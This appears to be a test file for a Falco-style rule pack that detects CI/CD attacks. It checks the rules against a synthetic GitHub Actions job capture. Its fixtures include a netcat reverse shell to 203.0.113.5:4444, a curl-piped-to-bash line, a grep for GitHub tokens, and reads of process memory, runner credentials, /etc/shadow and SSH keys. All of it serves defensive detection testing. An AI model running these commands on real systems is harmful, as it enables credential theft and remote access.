// Every shipped rule on a writer-made capture of a GitHub Actions job: each rule matches exactly the
// attack events meant for it and none of the benign look-alikes next to them. Event kinds the writer
// cannot produce (ptrace, dup2, unix-socket connect, accept) are checked on ScapEvents built as the
// reader delivers them.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseCaptureDescription, writeCapture, type CaptureDescriptionInput } from '../../../src/scap/writer/index.ts';
import { readCapture } from '../../../src/scap/index.ts';
import { compileOutput, isInternalEvent } from '../../../src/filter/index.ts';
import { loadRuleFiles, type RuleSet } from '../../../src/rules/index.ts';
import { captureContext, runRulesOnCapture } from '../../../src/rules/run.ts';
import { event, thread } from '../filter/events.ts';
import type { FdState } from '../../../src/scap/model.ts';

const CONTAINER = 'c0ffee'.padEnd(64, '0');
const WS = '/home/runner/work/repo/repo';
const TEMP = '/home/runner/work/_temp';

const job: CaptureDescriptionInput = {
  containers: [{ id: CONTAINER, name: 'postgres', image: 'docker.io/library/postgres:16', imageRepository: 'docker.io/library/postgres', imageTag: '16' }],
  processes: [
    { pid: 1, ppid: 0, comm: 'systemd', exepath: '/usr/lib/systemd/systemd' },
    { pid: 50, ppid: 1, comm: 'Runner.Listener', exepath: '/home/runner/runners/2.320.0/bin/Runner.Listener' },
    { pid: 100, ppid: 50, comm: 'Runner.Worker', exepath: '/home/runner/runners/2.320.0/bin/Runner.Worker' },
    { pid: 200, ppid: 100, comm: 'bash', exepath: '/usr/bin/bash', args: ['-e', `${TEMP}/step.sh`], cwd: `${WS}/`, uid: 1001 },
    { pid: 210, ppid: 200, comm: 'node', exepath: '/usr/bin/node', args: ['/usr/bin/npm', 'install'], cwd: `${WS}/`, uid: 1001 },
    { pid: 220, ppid: 210, comm: 'node', exepath: '/usr/bin/node', args: ['postinstall.js'], cwd: `${WS}/`, uid: 1001 },
    { pid: 230, ppid: 200, comm: 'python3', exepath: '/usr/bin/python3.12', args: ['exploit.py'], cwd: `${WS}/`, uid: 1001 },
    { pid: 240, ppid: 200, comm: 'ps', exepath: '/usr/bin/ps', args: ['e'], uid: 1001 },
    { pid: 250, ppid: 200, comm: 'gdb', exepath: '/usr/bin/gdb', args: ['-p', '100'], uid: 1001 },
    { pid: 260, ppid: 200, comm: 'git', exepath: '/usr/bin/git', args: ['fetch'], cwd: `${WS}/`, uid: 1001 },
    { pid: 270, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 271, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 272, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 273, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 274, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 275, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 276, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 277, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 280, ppid: 200, comm: 'cat', exepath: '/usr/bin/cat', uid: 1001 },
    { pid: 290, ppid: 200, comm: 'perl', exepath: '/usr/bin/perl', args: ['-e', 'use IO::Socket'], uid: 1001 },
    { pid: 291, ppid: 200, comm: 'python3', exepath: '/usr/bin/python3.12', args: ['-m', 'pip', 'install', 'requests'], uid: 1001 },
    { pid: 292, ppid: 200, comm: 'curl', exepath: '/usr/bin/curl', args: ['-sS', 'https://api.github.com'], uid: 1001 },
    { pid: 295, ppid: 200, comm: 'sed', exepath: '/usr/bin/sed', args: ['-i', 's/a/b/', 'src/main.c'], cwd: `${WS}/`, uid: 1001 },
    { pid: 296, ppid: 200, comm: 'docker', exepath: '/usr/bin/docker', args: ['ps'], uid: 1001 },
    { pid: 300, ppid: 1, comm: 'java', exepath: '/opt/java/bin/java', args: ['-jar', '/usr/share/jenkins/jenkins.war'] },
    { pid: 301, ppid: 300, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 302, ppid: 300, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 310, ppid: 1, comm: 'java', exepath: '/opt/java/bin/java', args: ['-cp', '/opt/sonarqube/lib/sonar-application.jar', 'org.sonar.application.App'] },
    { pid: 311, ppid: 310, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 320, ppid: 1, comm: 'java', exepath: '/opt/java/bin/java', args: ['-jar', 'gradle-daemon.jar'] },
    { pid: 321, ppid: 320, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 400, ppid: 1, comm: 'postgres', exepath: '/usr/lib/postgresql/bin/postgres', containerId: CONTAINER, uid: 999 },
    { pid: 410, ppid: 1, comm: 'cat', exepath: '/usr/bin/cat' },
  ],
  events: [
    // Source Code Overwrite (disabled by default)
    { pid: 295, type: 'open', path: `${WS}/src/main.c`, flags: ['O_WRONLY', 'O_TRUNC'] },
    { pid: 295, type: 'open', path: `${WS}/node_modules/x/index.js`, flags: ['O_WRONLY'] },
    { pid: 100, type: 'open', path: `${TEMP}/step2.sh`, flags: ['O_WRONLY', 'O_CREAT'] },
    { pid: 280, type: 'open', path: `${WS}/src/util.c`, flags: ['O_RDONLY'] },
    // Possible Workflow File Overwrite
    { pid: 230, type: 'open', path: `${WS}/.github/workflows/ci.yml`, flags: ['O_WRONLY', 'O_TRUNC'] },
    { pid: 280, type: 'open', path: `${WS}/.github/workflows/release.yml`, flags: ['O_RDONLY'] },
    // Git Pushing to Repository
    { pid: 270, type: 'exec', exepath: '/usr/bin/git', args: ['push', 'origin', 'HEAD:main'] },
    { pid: 271, type: 'exec', exepath: '/usr/bin/git', args: ['pull', '--rebase'] },
    // Environment / memory of others (tj-actions/changed-files read Runner.Worker's memory)
    { pid: 230, type: 'open', path: '/proc/100/environ' },
    { pid: 230, type: 'open', path: '/proc/self/environ' },
    { pid: 240, type: 'open', path: '/proc/100/environ' },
    { pid: 230, type: 'open', path: '/proc/100/mem' },
    { pid: 250, type: 'open', path: '/proc/100/mem' },
    // GitHub token in the checkout's git config
    { pid: 220, type: 'open', path: `${WS}/.git/config` },
    { pid: 230, type: 'open', path: `${TEMP}/git-credentials-1f2e3d.config` },
    { pid: 260, type: 'open', path: `${WS}/.git/config` },
    // Grep for tokens
    { pid: 272, type: 'exec', exepath: '/usr/bin/grep', args: ['-rao', 'ghs_[A-Za-z0-9]*', '/tmp/dump'] },
    { pid: 273, type: 'exec', exepath: '/usr/bin/grep', args: ['-r', 'TODO', 'src'] },
    // Runner file commands
    { pid: 220, type: 'open', path: `${TEMP}/_runner_file_commands/set_env_0a1b`, flags: ['O_WRONLY', 'O_APPEND'] },
    { pid: 200, type: 'open', path: `${TEMP}/_runner_file_commands/set_output_0a1b`, flags: ['O_WRONLY', 'O_APPEND'] },
    { pid: 100, type: 'open', path: `${TEMP}/_runner_file_commands/add_path_0a1b`, flags: ['O_WRONLY', 'O_CREAT'] },
    // Runner credential files
    { pid: 280, type: 'open', path: '/home/runner/runners/2.320.0/.credentials' },
    { pid: 50, type: 'open', path: '/home/runner/runners/2.320.0/.credentials_rsaparams' },
    // Downloader piped into a shell
    { pid: 274, type: 'exec', exepath: '/usr/bin/sh', args: [] },
    { pid: 275, type: 'exec', exepath: '/usr/bin/bash', args: ['-c', 'curl -fsSL https://get.example.sh | bash'] },
    { pid: 276, type: 'exec', exepath: '/usr/bin/bash', args: ['/tmp/setup.sh'] },
    { pid: 277, type: 'exec', exepath: '/usr/bin/sh', args: ['-c', 'echo hello'] },
    // Reverse shell (a shell connecting out) and interpreters
    { pid: 200, type: 'connect', local: { ip: '10.1.0.4', port: 40100 }, remote: { ip: '203.0.113.5', port: 4444 } },
    { pid: 200, type: 'connect', local: { ip: '127.0.0.1', port: 40101 }, remote: { ip: '127.0.0.1', port: 8080 } },
    { pid: 290, type: 'connect', local: { ip: '10.1.0.4', port: 40102 }, remote: { ip: '198.51.100.7', port: 443 } },
    { pid: 291, type: 'connect', local: { ip: '10.1.0.4', port: 40103 }, remote: { ip: '151.101.0.223', port: 443 } },
    { pid: 292, type: 'connect', local: { ip: '10.1.0.4', port: 40104 }, remote: { ip: '140.82.112.5', port: 443 } },
    // Docker socket opened as a file by a non-client and by the docker CLI
    { pid: 230, type: 'open', path: '/var/run/docker.sock', flags: ['O_RDWR'] },
    { pid: 296, type: 'open', path: '/var/run/docker.sock', flags: ['O_RDWR'] },
    // Jenkins / SonarQube children
    { pid: 301, type: 'exec', exepath: '/usr/bin/nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] },
    { pid: 302, type: 'exec', exepath: '/usr/bin/git', args: ['fetch'] },
    { pid: 311, type: 'exec', exepath: '/usr/bin/sh', args: ['-c', 'id'] },
    { pid: 321, type: 'exec', exepath: '/usr/bin/sh', args: ['-c', 'gradle build'] },
    // Container reading sensitive files
    { pid: 400, type: 'open', path: '/etc/shadow' },
    { pid: 400, type: 'open', path: '/root/.ssh/id_rsa' },
    { pid: 400, type: 'open', path: '/etc/passwd' },
    { pid: 410, type: 'open', path: '/etc/shadow' },
  ],
};

/** Per rule: what it must match, as "proc.name evt.type fd.name-or-cmdline" keys, in capture order. */
const EXPECTED: Record<string, string[]> = {
  'Source Code Overwrite': [`sed openat ${WS}/src/main.c`, `python3 openat ${WS}/.github/workflows/ci.yml`],
  'Possible Workflow File Overwrite': [`python3 openat ${WS}/.github/workflows/ci.yml`],
  'Git Pushing to Repository': ['git execve git push origin HEAD:main'],
  'Process Reading Environment Variables of Others': ['python3 openat /proc/100/environ'],
  'Process Dumping Memory of Others': ['python3 openat /proc/100/mem'],
  'Process Memory Access via ptrace': [],
  'Suspicious Process Reading GitHub Token': [`node openat ${WS}/.git/config`, `python3 openat ${TEMP}/git-credentials-1f2e3d.config`],
  'Grep Looking for GitHub Secrets': ['grep execve grep -rao ghs_[A-Za-z0-9]* /tmp/dump'],
  'Unexpected Write to Runner File Commands': [`node openat ${TEMP}/_runner_file_commands/set_env_0a1b`],
  'Read of Runner Credential Files': ['cat openat /home/runner/runners/2.320.0/.credentials'],
  'Downloader Piped Into Shell': ['sh execve sh', 'bash execve bash -c curl -fsSL https://get.example.sh | bash'],
  'Reverse Shell': ['bash connect 10.1.0.4:40100->203.0.113.5:4444'],
  'Outbound Connection From Unexpected Interpreter': ['perl connect 10.1.0.4:40102->198.51.100.7:443'],
  'Docker Socket Access From Build': ['python3 openat /var/run/docker.sock'],
  'Jenkins Unexpected Process': ['nc execve nc -e /bin/sh 203.0.113.5 4444'],
  'Harbor Push From Unknown IP': [],
  'SonarQube Spawning a Shell': ['sh execve sh -c id'],
  'Container Reading Sensitive Host Files': ['postgres openat /etc/shadow', 'postgres openat /root/.ssh/id_rsa'],
};

let dir: string;
let capture: string;
let rules: RuleSet;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'falco-actions-packs-'));
  capture = join(dir, 'job.scap');
  await writeCapture(parseCaptureDescription(job, 'packs job'), capture);
  rules = await loadRuleFiles(['rules/falco_cicd_rules.yaml', 'rules/devops_toolchain_rules.yaml']);
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

test('both packs load without problems', () => {
  assert.deepEqual(rules.problems, []);
  assert.deepEqual(rules.rules.map((rule) => rule.name).sort(), Object.keys(EXPECTED).sort());
  for (const rule of rules.rules) {
    assert.ok(rule.tags.some((tag) => /^T\d{4}(\.\d{3})?$/.test(tag)), `${rule.name} has a MITRE ATT&CK technique tag`);
    assert.match(rule.desc, /false positives/i, `${rule.name} names its expected false positives`);
    assert.match(rule.desc, /tune with the (list|macro)/, `${rule.name} names what to tune`);
    assert.match(rule.output, /%proc\.cmdline|%proc\.pcmdline/, `${rule.name} output carries a command line`);
  }
});

test('every rule matches exactly its attack events on the job capture', async () => {
  const key = compileOutput('%proc.name %evt.type %fd.name');
  const execKey = compileOutput('%proc.name %evt.type %proc.cmdline');
  const context = await captureContext(capture);
  const matched = new Map<string, string[]>(rules.rules.map((rule) => [rule.name, []]));
  await readCapture(capture, (scapEvent) => {
    if (isInternalEvent(scapEvent)) return;
    for (const rule of rules.rules) {
      if (rule.predicate?.(scapEvent, context) === true) {
        matched.get(rule.name)?.push((scapEvent.name === 'execve' ? execKey : key)(scapEvent, context));
      }
    }
  });
  const wrong = Object.entries(EXPECTED)
    .filter(([name, expected]) => JSON.stringify(matched.get(name)) !== JSON.stringify(expected))
    .map(([name, expected]) => `${name}: expected ${JSON.stringify(expected)}, matched ${JSON.stringify(matched.get(name))}`);
  assert.deepEqual(wrong, []);
});

test('rules test reports enabled rules only unless asked, with outputs filled in', async () => {
  const report = await runRulesOnCapture(rules, capture);
  const source = report.rules.find((rule) => rule.rule === 'Source Code Overwrite');
  assert.equal(source?.enabled, false);
  assert.equal(source?.matches, 0, 'a disabled rule is listed but not evaluated');
  const memory = report.rules.find((rule) => rule.rule === 'Process Dumping Memory of Others');
  assert.equal(memory?.matches, 1);
  assert.match(memory?.events[0]?.output ?? '', /^python3 read the memory of another process \(file=\/proc\/100\/mem process=python3 pid=230 .*parent=bash gparent=Runner.Worker ggparent=Runner.Listener gggparent=systemd user=runner /);
  const all = await runRulesOnCapture(rules, capture, { includeDisabled: true });
  assert.equal(all.rules.find((rule) => rule.rule === 'Source Code Overwrite')?.matches, 2);
});

// --- event kinds the writer cannot make ------------------------------------------------------------------

function predicateOf(name: string) {
  const rule = rules.rules.find((candidate) => candidate.name === name);
  assert.ok(rule?.predicate, name);
  return rule.predicate;
}

const worker = thread({ tid: 100, comm: 'Runner.Worker', ptid: 50 });
const step = thread({ tid: 200, comm: 'bash', ptid: 100 });
const py = thread({ tid: 230, comm: 'python3', ptid: 200 });
const strace = thread({ tid: 231, comm: 'strace', ptid: 200 });
const table = [worker, step, py, strace];

test('ptrace: a successful attach by a non-debugger matches; debuggers and failures do not', () => {
  const matches = predicateOf('Process Memory Access via ptrace');
  const ptrace = (who: typeof py, res: number) => event({ symbol: 'SYSCALL_PTRACE_X', thread: who, table, params: { res, request: 16, pid: 100 } });
  assert.equal(matches(ptrace(py, 0)), true);
  assert.equal(matches(ptrace(strace, 0)), false);
  assert.equal(matches(ptrace(py, -1)), false);
});

test('reverse shell: dup2 of a TCP socket onto stdin matches; dup2 of a file does not', () => {
  const matches = predicateOf('Reverse Shell');
  const socket: FdState = { num: 3, kind: 'ipv4', typechar: '4', name: '10.1.0.4:40100->203.0.113.5:4444', l4proto: 'tcp', client: { ip: '10.1.0.4', port: 40100 }, server: { ip: '203.0.113.5', port: 4444 }, role: 'client' };
  const file: FdState = { num: 3, kind: 'file', typechar: 'f', name: '/tmp/log' };
  assert.equal(matches(event({ symbol: 'SYSCALL_DUP2_X', thread: step, table, fd: socket, params: { res: 0, oldfd: 3, newfd: 0 } })), true);
  assert.equal(matches(event({ symbol: 'SYSCALL_DUP2_X', thread: step, table, fd: file, params: { res: 1, oldfd: 3, newfd: 1 } })), false);
  assert.equal(matches(event({ symbol: 'SYSCALL_DUP2_X', thread: step, table, fd: socket, params: { res: 5, oldfd: 3, newfd: 5 } })), false);
});

test('docker socket: a unix connect by a non-client matches; by the docker CLI it does not', () => {
  const matches = predicateOf('Docker Socket Access From Build');
  const sock: FdState = { num: 4, kind: 'unix', typechar: 'u', name: '/var/run/docker.sock' };
  const docker = thread({ tid: 296, comm: 'docker', ptid: 200 });
  assert.equal(matches(event({ symbol: 'SOCKET_CONNECT_X', thread: py, table, fd: sock, params: { res: 0, fd: 4 } })), true);
  assert.equal(matches(event({ symbol: 'SOCKET_CONNECT_X', thread: docker, table: [...table, docker], fd: sock, params: { res: 0, fd: 4 } })), false);
});

test('harbor: an accepted connection from outside the trusted networks matches', () => {
  const matches = predicateOf('Harbor Push From Unknown IP');
  const harbor = thread({ tid: 500, comm: 'registry', ptid: 1, containerId: CONTAINER });
  const accepted = (ip: string): FdState => ({ num: 7, kind: 'ipv4', typechar: '4', name: `${ip}:51000->172.18.0.3:5000`, l4proto: 'tcp', client: { ip, port: 51000 }, server: { ip: '172.18.0.3', port: 5000 }, role: 'server' });
  assert.equal(matches(event({ symbol: 'SOCKET_ACCEPT4_6_X', thread: harbor, fd: accepted('203.0.113.9'), params: { fd: 7 } })), true);
  assert.equal(matches(event({ symbol: 'SOCKET_ACCEPT4_6_X', thread: harbor, fd: accepted('10.0.0.5'), params: { fd: 7 } })), false);
  const other = thread({ tid: 501, comm: 'nginx', ptid: 1 });
  assert.equal(matches(event({ symbol: 'SOCKET_ACCEPT4_6_X', thread: other, fd: accepted('203.0.113.9'), params: { fd: 7 } })), false);
});
